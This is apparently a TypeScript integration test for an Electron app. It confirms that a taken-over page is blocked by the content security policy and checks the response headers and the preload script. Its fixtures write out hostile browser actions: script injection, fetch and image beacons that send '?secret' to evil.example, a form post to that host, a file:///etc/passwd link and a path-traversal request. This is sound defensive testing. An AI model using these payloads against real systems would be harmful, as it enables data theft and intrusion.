import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import type { Page } from '@playwright/test';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { CHANNEL } from '../../../electron/hosts/desktop/channel.ts';
import { type Desktop, launchDesktopStandIn } from '../../support/electron/launch.ts';
import { POLICY, policyOf } from '../../support/policy.ts';
import { buildPreload } from '../../support/preload.ts';
import { provideBrowser } from '../../support/tools.ts';

/** Keeps what the policy refused, and what came over the wire. */
const SCRIPT = `
  window.refused = [];
  document.addEventListener('securitypolicyviolation', (event) => {
    window.refused.push(event.effectiveDirective);
  });
  window.heard = [];
  window.watchroom.receive((text) => window.heard.push(text));
`;
const PAGE = `<!doctype html><title>page</title>
<script type="module" src="./page.js"></script>
<p id="place">text</p>`;

let folder: string;
let preload: string;
let desktop: Desktop;
let page: Page;
/** How many there are before anybody tries to open one; the browser's own first is one of them. */
let windows: number;

beforeAll(async () => {
  folder = mkdtempSync(join(tmpdir(), 'watchroom-lockdown-'));
  const pageFolder = join(folder, 'page');
  const dataFolder = join(folder, 'data');
  mkdirSync(pageFolder);
  mkdirSync(dataFolder);
  writeFileSync(join(pageFolder, 'index.html'), PAGE);
  writeFileSync(join(pageFolder, 'page.js'), SCRIPT);
  preload = await buildPreload(folder);
  desktop = await launchDesktopStandIn({
    args: [preload, pageFolder, dataFolder],
    executablePath: provideBrowser(() => {}),
    main: resolve('test/integration/desktop/lockdown-main.ts'),
  });
  page = desktop.page;
  windows = desktop.context.pages().length;
});
beforeEach(async () => {
  await page.reload();
});
afterAll(async () => {
  await desktop?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** Polled from here, because the policy forbids the page a condition given as text. */
const WAIT = { timeout: 10_000, interval: 20 };
const value = (name: string): Promise<unknown> =>
  page.evaluate((key) => Reflect.get(window, key), name);

/** What a hostile script in the page tries; each is refused by the directive it is listed under. */
const TRIES: Readonly<Record<string, [directive: string, attempt: () => void]>> = {
  'a text as script': [
    'script-src',
    () => {
      // In a task of its own: what is evaluated from outside is let off this part of the policy.
      setTimeout(() => new Function('window.broken = true')());
    },
  ],
  'an inline script': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'window.broken = true';
      document.body.append(script);
    },
  ],
  'a script of another place': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'https://evil.example/x.js';
      document.body.append(script);
    },
  ],
  'a script of the page’s own making': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = URL.createObjectURL(new Blob(['window.broken = true']));
      document.body.append(script);
    },
  ],
  'a script in an attribute': [
    'script-src-attr',
    () => {
      const place = document.createElement('p');
      place.setAttribute('onclick', 'window.broken = true');
      document.body.append(place);
      place.click();
    },
  ],
  'a script as an address': [
    'script-src-elem',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:void (window.broken = true)';
      document.body.append(link);
      link.click();
    },
  ],
  'a worker': [
    'worker-src',
    () => {
      new Worker('./page.js');
    },
  ],
  'a frame': [
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = './index.html';
      document.body.append(frame);
    },
  ],
  'an object': [
    'object-src',
    () => {
      const thing = document.createElement('object');
      thing.data = './index.html';
      document.body.append(thing);
    },
  ],
  'a request to another place': [
    'connect-src',
    () => {
      fetch('https://evil.example/?secret').catch(() => {});
    },
  ],
  'a socket to this computer': [
    'connect-src',
    () => {
      new WebSocket('ws://127.0.0.1:9/');
    },
  ],
  'a picture of another place': [
    'img-src',
    () => {
      new Image().src = 'https://evil.example/?secret';
    },
  ],
  'a style sheet of another place': [
    'style-src-elem',
    () => {
      const link = document.createElement('link');
      link.rel = 'stylesheet';
      link.href = 'https://evil.example/x.css';
      document.head.append(link);
    },
  ],
  'another base for addresses': [
    'base-uri',
    () => {
      const base = document.createElement('base');
      base.href = 'https://evil.example/';
      document.head.append(base);
    },
  ],
  'a form': [
    'form-action',
    () => {
      const form = document.createElement('form');
      form.action = 'https://evil.example/';
      document.body.append(form);
      form.submit();
    },
  ],
};

describe('a page that was taken over', () => {
  it.each(Object.entries(TRIES))('is refused %s', async (_what, [directive, attempt]) => {
    await page.evaluate(attempt);
    await expect.poll(() => value('refused'), WAIT).toContain(directive);
    expect(await value('broken')).toBeUndefined();
    expect(page.url()).toMatch(/index\.html$/);
    const ours = page.frames().filter((frame) => frame.url() === page.url());
    expect(ours).toHaveLength(1);
  });

  it.each([
    ['a link', 'https://evil.example/'],
    ['a link to a file', 'file:///etc/passwd'],
    ['a link to another page of ours', './other.html'],
  ])('goes nowhere by %s, in no window', async (_what, href) => {
    const address = page.url();
    for (const target of ['_self', '_blank', '_top', 'name']) {
      await page.evaluate(
        ([to, where]) => {
          const link = Object.assign(document.createElement('a'), { href: to, target: where });
          // Else the stand-in is not told which window opened another one.
          link.rel = 'opener';
          document.body.append(link);
          link.click();
        },
        [href, target] as const,
      );
    }
    await page.evaluate(() => window.watchroom?.post('still here'));
    await expect.poll(() => value('heard'), WAIT).toHaveLength(1);
    await expect.poll(() => desktop.context.pages().length, WAIT).toBe(windows);
    expect(page.url()).toBe(address);
  });

  it('reaches one channel, of its own window', async () => {
    await page.evaluate(() => window.watchroom?.post('channels'));
    await expect.poll(() => value('heard'), WAIT).toHaveLength(1);
    const [told] = (await value('heard')) as string[];
    expect(JSON.parse(told ?? '')).toEqual({
      // What electron-store opens by itself: should it be called otherwise one day, it is seen here.
      before: ['electron-store-get-data'],
      ofAll: [],
      ofWindow: [CHANNEL],
    });
  });

  it('gets texts and no events, whatever it gives as a listener', async () => {
    const heard = await page.evaluate(async () => {
      const bridge = window.watchroom;
      if (!bridge) throw new Error('no bridge');
      const lists: unknown[][] = [];
      const stop = bridge.receive((...args: unknown[]) => {
        lists.push(args.map((arg) => typeof arg));
      });
      bridge.post('one');
      const until = Date.now() + 5000;
      while (lists.length === 0 && Date.now() < until) await new Promise((go) => setTimeout(go));
      return { lists, stop: typeof stop, returned: typeof stop() };
    });
    expect(heard).toEqual({ lists: [['string']], stop: 'function', returned: 'undefined' });
  });
});

describe('every answer to the page', () => {
  it.each([
    ['./index.html', 200],
    ['./page.js', 200],
    ['./none.js', 404],
    ['./..%2f..%2fdata', 404],
  ])('states the whole policy: %s', async (path, status) => {
    const answer = await page.evaluate(async (url) => {
      const response = await fetch(url);
      return { status: response.status, headers: Object.fromEntries(response.headers) };
    }, path);
    expect(answer.status).toBe(status);
    expect(policyOf(answer.headers['content-security-policy'])).toEqual(POLICY);
    expect(answer.headers).toMatchObject({
      'x-content-type-options': 'nosniff',
      'referrer-policy': 'no-referrer',
      'cross-origin-opener-policy': 'same-origin',
      'cross-origin-resource-policy': 'same-origin',
      'cache-control': 'no-store',
    });
  });
});

describe('the built preload script', () => {
  it('asks for Electron alone, and for as much of it as its two functions need', () => {
    const script = readFileSync(preload, 'utf8');
    const asked = [...script.matchAll(/require\(([^)]*)\)/g)].map(([, name]) => name);
    expect(asked.map((name) => name?.replace(/["'`]/g, ''))).toEqual(['electron']);
    const used = [
      ...script.matchAll(/\.(contextBridge|ipcRenderer|webFrame|webUtils|shell)\.(\w+)/g),
    ];
    expect(used.map(([, object, name]) => `${object}.${name}`).toSorted()).toEqual([
      'contextBridge.exposeInMainWorld',
      'ipcRenderer.off',
      'ipcRenderer.on',
      'ipcRenderer.send',
    ]);
    expect(script).not.toMatch(/\bprocess\b|\beval\b|\bBuffer\b/);
  });
});
